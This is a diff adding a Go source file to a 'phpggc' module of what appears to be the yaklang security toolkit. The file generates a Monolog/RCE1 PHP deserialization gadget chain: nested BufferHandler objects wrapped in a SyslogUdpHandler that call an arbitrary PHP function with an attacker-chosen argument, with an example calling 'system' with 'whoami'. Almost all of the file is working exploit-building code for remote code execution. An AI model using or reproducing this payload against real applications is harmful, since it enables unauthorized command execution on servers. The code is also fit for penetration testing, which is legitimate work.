@@ -0,0 +1,39 @@
+package phpggc
+
+import (
+	"github.com/yaklang/yaklang/common/phpserx"
+)
+
+// GetMonologRCE1Payload generate Monolog/RCE1 chain, the record is passed to the processors: current() and function,
+// so BufferHandler::handle calls function(parameter)
+// Example:
+// ```
+// payload = phpggc.GetMonologRCE1Payload("system", "whoami")~
+// raw = phpggc.ToBytes(payload)~
+// ```
+func GetMonologRCE1Payload(function string, parameter string) (*Payload, error) {
+	if err := checkFunction(function); err != nil {
+		return nil, err
+	}
+	bufferHandler := func(handler phpserx.PHPSerializable) *phpserx.PHPObject {
+		record := phpserx.NewPHPArray(
+			phpserx.NewPHPArrayEntry(phpserx.NewPHPInt(0), phpserx.NewPHPString(parameter)),
+			phpserx.NewPHPArrayEntry(phpserx.NewPHPString("level"), phpserx.NewPHPNull()),
+		)
+		return phpserx.NewPHPObject(`Monolog\Handler\BufferHandler`,
+			phpserx.NewPHPProtectedProperty("handler", handler),
+			phpserx.NewPHPProtectedProperty("bufferSize", phpserx.NewPHPInt(-1)),
+			phpserx.NewPHPProtectedProperty("buffer", phpserx.NewPHPList(record)),
+			phpserx.NewPHPProtectedProperty("level", phpserx.NewPHPNull()),
+			phpserx.NewPHPProtectedProperty("initialized", phpserx.NewPHPBool(true)),
+			phpserx.NewPHPProtectedProperty("bufferLimit", phpserx.NewPHPInt(-1)),
+			phpserx.NewPHPProtectedProperty("processors", phpserx.NewPHPList(phpserx.NewPHPString("current"), phpserx.NewPHPString(function))),
+		)
+	}
+	// the outer handler flushes the buffer to the inner handler when it is closed
+	handler := bufferHandler(bufferHandler(phpserx.NewPHPNull()))
+	syslog := phpserx.NewPHPObject(`Monolog\Handler\SyslogUdpHandler`,
+		phpserx.NewPHPProtectedProperty("socket", handler),
+	)
+	return newPayload("Monolog/RCE1", syslog), nil
+}